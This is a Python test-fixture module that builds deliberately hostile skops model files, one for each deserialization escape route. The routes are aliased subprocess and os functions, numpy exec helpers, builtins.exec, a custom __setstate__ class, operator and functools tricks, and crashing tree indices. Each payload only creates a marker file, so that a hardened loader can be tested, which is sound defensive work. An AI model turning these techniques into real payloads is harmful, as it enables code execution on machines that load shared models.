"""Hostile .skops files, one per escape route, each leaving a marker file when its payload runs.

Every payload is *live*: :func:`fire` loads it with skops' gate switched off
(``trusted=True``) in a child process and, for predict-time payloads, calls ``predict_proba``;
the tests assert that this creates the marker, so a refusal by our loader is a real refusal and
not a payload that could never have run. Builders start from a real fitted model dumped by skops
and then rewrite names in ``schema.json`` the way an attacker would.
"""

from __future__ import annotations

import functools
import io
import json
import operator
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

ALIAS_CHECK_OUTPUT = ("sklearn.utils._testing", "check_output")  # = subprocess.check_output
ALIAS_MAKEDIRS = ("sklearn.datasets._base", "makedirs")  # = os.makedirs
NUMPY_EXEC = ("numpy.testing._private.utils", "measure")  # exec()s its first argument
EVIL_MODULE = "raipayload_evil"


@dataclass(frozen=True)
class Payload:
    name: str
    path: Path
    marker: Path
    phase: str  # "load" or "predict"
    pythonpath: Path | None = None  # for the custom-class payload: where its module lies


# ------------------------------------------------------------------ schema surgery


def _nodes(obj: Any) -> Iterator[dict[str, Any]]:
    stack = [obj]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            if "__loader__" in item:
                yield item
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)


def _rewrite(path: Path, edit: Callable[[dict[str, Any], dict[str, bytes]], None]) -> None:
    """Apply ``edit(schema, files)`` to a skops zip in place."""
    with zipfile.ZipFile(path) as zf:
        files = {n: zf.read(n) for n in zf.namelist()}
    schema = json.loads(files.pop("schema.json"))
    edit(schema, files)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("schema.json", json.dumps(schema))
        for n, d in files.items():
            zf.writestr(n, d)


def _retarget(schema: dict[str, Any], old: tuple[str, str], new: tuple[str, str]) -> None:
    hits = 0
    for node in _nodes(schema):
        if (node.get("__module__"), node.get("__class__")) == old:
            node["__module__"], node["__class__"] = new
            hits += 1
    if not hits:
        raise AssertionError(f"no node named {old} to rewrite")


def _value_node(value: Any) -> dict[str, Any]:
    """A skops node for a plain value (ids stripped so they cannot clash)."""
    import skops.io as sio

    with zipfile.ZipFile(io.BytesIO(sio.dumps(value))) as zf:
        node = json.loads(zf.read("schema.json"))
    for n in _nodes(node):
        n.pop("__id__", None)
    node.pop("protocol", None)
    node.pop("_skops_version", None)
    return node


def _fitted_lr() -> Any:
    from sklearn.linear_model import LogisticRegression

    X = np.random.RandomState(0).randn(60, 4)
    return LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))


def _dump(obj: Any, path: Path) -> Path:
    import skops.io as sio

    sio.dump(obj, path)
    return path


def _call_at_load(path: Path, func: tuple[str, str], args: tuple[Any, ...], loader: str) -> None:
    """Put a node into a fitted LogisticRegression that calls ``func(*args)`` while loading."""
    _dump(_fitted_lr(), path)

    def edit(schema: dict[str, Any], _: dict[str, bytes]) -> None:
        module, cls = func
        node: dict[str, Any] = {"__class__": cls, "__module__": module, "__loader__": loader}
        if loader == "LossNode":  # skops' LossNode calls the named "loss" with __reduce__ args
            node["__reduce__"] = {"args": _value_node(args)}
            node["content"] = _value_node({})
        else:
            node["content"] = _value_node(args)
        schema["content"]["content"]["C"] = node

    _rewrite(path, edit)


def _pipeline(first: Any, second: Any) -> Any:
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer as FT

    return Pipeline([("a", FT(first[0], kw_args=first[1])), ("b", second), ("lr", _fitted_lr())])


def _argv_then(func: Any, marker: Path, **kw: Any) -> Any:
    """Pipeline: the input becomes the array ['touch', marker], then ``func`` gets it."""
    from sklearn.preprocessing import FunctionTransformer as FT

    argv = (np.full_like, {"fill_value": ["touch", str(marker)], "shape": (2,), "dtype": "object"})
    return _pipeline(argv, FT(func, kw_args=kw or None))


def _code_then(func: Any, code: str) -> Any:
    """Pipeline: the input becomes the array [code], then ``func`` gets it."""
    from sklearn.preprocessing import FunctionTransformer as FT

    src = (np.full_like, {"fill_value": code, "shape": (1,), "dtype": "object"})
    return _pipeline(src, FT(func))


# ------------------------------------------------------------------ the payloads


def build_all(folder: Path) -> list[Payload]:
    """Write every code-running payload under ``folder``; returns them."""
    folder.mkdir(parents=True, exist_ok=True)
    out: list[Payload] = []

    def add(name: str, phase: str, marker: Path, pythonpath: Path | None = None) -> Path:
        out.append(Payload(name, folder / f"{name}.skops", marker, phase, pythonpath))
        return out[-1].path

    # 1. the file: a prefix-aliased subprocess function, run at predict time
    m = folder / "m_prefix_subprocess"
    p = add("prefix_subprocess_predict", "predict", m)
    _dump(_argv_then(np.sin, m), p)
    _rewrite(p, lambda s, _: _retarget(s, ("numpy", "sin"), ALIAS_CHECK_OUTPUT))

    # 2. a node whose constructor is that function, run at load time (two node kinds)
    m = folder / "m_ctor_alias"
    _call_at_load(
        add("constructor_alias_load", "load", m),
        ALIAS_CHECK_OUTPUT,
        (["touch", str(m)],),
        "ConstructorFromReduceNode",
    )
    m = folder / "m_loss_alias"
    _call_at_load(
        add("loss_node_alias_load", "load", m), ALIAS_CHECK_OUTPUT, (["touch", str(m)],), "LossNode"
    )

    # 3. a prefix-aliased os function at load time
    m = folder / "m_prefix_os"
    _call_at_load(
        add("prefix_os_load", "load", m), ALIAS_MAKEDIRS, (str(m),), "ConstructorFromReduceNode"
    )

    # 4. FunctionTransformer with a foreign function
    m = folder / "m_foreign"
    _dump(_argv_then(subprocess.check_output, m), add("foreign_function_predict", "predict", m))

    # 5. a numpy function that takes a callable (np.piecewise calls funclist on the input)
    m = folder / "m_numpy_callable"
    p = add("numpy_takes_callable_predict", "predict", m)
    _dump(_argv_then(np.piecewise, m, condlist=[[True, True]], funclist=[np.sin]), p)
    _rewrite(p, lambda s, _: _retarget(s, ("numpy", "sin"), ALIAS_CHECK_OUTPUT))

    # 6. a numpy function that evaluates code, at load time
    m = folder / "m_numpy_exec"
    _call_at_load(
        add("numpy_exec_load", "load", m),
        NUMPY_EXEC,
        (f"import os; os.mkdir({str(m)!r})",),
        "ConstructorFromReduceNode",
    )

    # 7. a method of a numpy type that executes: np.vectorize(...).__call__ over code strings
    m = folder / "m_method"
    p = add("method_executes_predict", "predict", m)
    _dump(_code_then(np.vectorize(np.sin).__call__, f"import os; os.mkdir({str(m)!r})"), p)

    def method(schema: dict[str, Any], _: dict[str, bytes]) -> None:
        _retarget(schema, ("numpy", "sin"), NUMPY_EXEC)
        for node in _nodes(schema):  # skops writes the method's and owner's modules apart
            if node["__loader__"] == "MethodNode":
                owner = node["content"]["obj"]
                node["__module__"], node["__class__"] = owner["__module__"], owner["__class__"]

    _rewrite(p, method)

    # 8. operator trick: methodcaller('tofile', marker) writes the input to a file
    m = folder / "m_operator"
    from sklearn.preprocessing import FunctionTransformer as FT

    _dump(
        _pipeline((np.sin, None), FT(operator.methodcaller("tofile", str(m)))),
        add("operator_methodcaller_predict", "predict", m),
    )

    # 9. functools trick: partial(np.save, marker) writes the input to marker.npy
    m = folder / "m_functools.npy"
    _dump(
        _pipeline((np.sin, None), FT(functools.partial(np.save, str(m)[:-4]))),
        add("functools_partial_predict", "predict", m),
    )

    # 10. builtins: exec as the constructor of a node, at load time
    m = folder / "m_builtins"
    _call_at_load(
        add("builtins_exec_load", "load", m),
        ("builtins", "exec"),
        (f"import os; os.mkdir({str(m)!r})",),
        "ConstructorFromReduceNode",
    )

    # 11. a custom class whose __setstate__ runs, at load time
    m = folder / "m_custom"
    lib = folder / "lib"
    lib.mkdir(exist_ok=True)
    (lib / f"{EVIL_MODULE}.py").write_text(
        textwrap.dedent(f"""
        import os
        class Evil:
            def __setstate__(self, state):
                os.mkdir({str(m)!r})
    """)
    )
    p = add("custom_class_load", "load", m, lib)
    _dump(_fitted_lr(), p)

    def custom(schema: dict[str, Any], _: dict[str, bytes]) -> None:
        schema["content"]["content"]["C"] = {
            "__class__": "Evil",
            "__module__": EVIL_MODULE,
            "__loader__": "ObjectNode",
            "content": _value_node({"x": 1}),
        }

    _rewrite(p, custom)
    return out


def out_of_range_tree(folder: Path, *, boosting: bool = False) -> Path:
    """A fitted tree model whose first split points 2**40 nodes away (crashes scikit-learn)."""
    from sklearn.ensemble import HistGradientBoostingClassifier
    from sklearn.tree import DecisionTreeClassifier

    X = np.random.RandomState(0).randn(200, 4)
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    model = HistGradientBoostingClassifier(max_iter=3) if boosting else DecisionTreeClassifier()
    path = _dump(model.fit(X, y), folder / ("hgb_oob.skops" if boosting else "tree_oob.skops"))
    fields = ("left", "right") if boosting else ("left_child", "right_child")
    far = 2**31 - 1 if boosting else 2**40

    def edit(schema: dict[str, Any], files: dict[str, bytes]) -> None:
        for name, data in files.items():
            arr = np.load(io.BytesIO(data), allow_pickle=False)
            if arr.dtype.names and fields[0] in arr.dtype.names:
                for f in fields:  # both children of the root: every input goes there
                    arr[f][0] = far
                buf = io.BytesIO()
                np.save(buf, arr, allow_pickle=False)
                files[name] = buf.getvalue()

    _rewrite(path, edit)
    return path


_FIRE = """
import json, sys, numpy as np, skops.io as sio
out = {}
for name, path, phase in json.loads(sys.argv[1]):
    try:
        est = sio.load(path, trusted=sio.get_untrusted_types(file=path))
        if phase == "predict":
            est.predict_proba(np.zeros((2, 4)))
    except BaseException as exc:
        out[name] = type(exc).__name__
print(json.dumps(out))
"""


def fire(payloads: list[Payload]) -> subprocess.CompletedProcess[str]:
    """Load every payload unsafely in one child process (the liveness control)."""
    import os

    paths = [str(p.pythonpath) for p in payloads if p.pythonpath]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([*paths, os.environ.get("PYTHONPATH", "")])}
    spec = json.dumps([(p.name, str(p.path), p.phase) for p in payloads])
    return subprocess.run(
        [sys.executable, "-c", _FIRE, spec], capture_output=True, text=True, env=env, check=False
    )
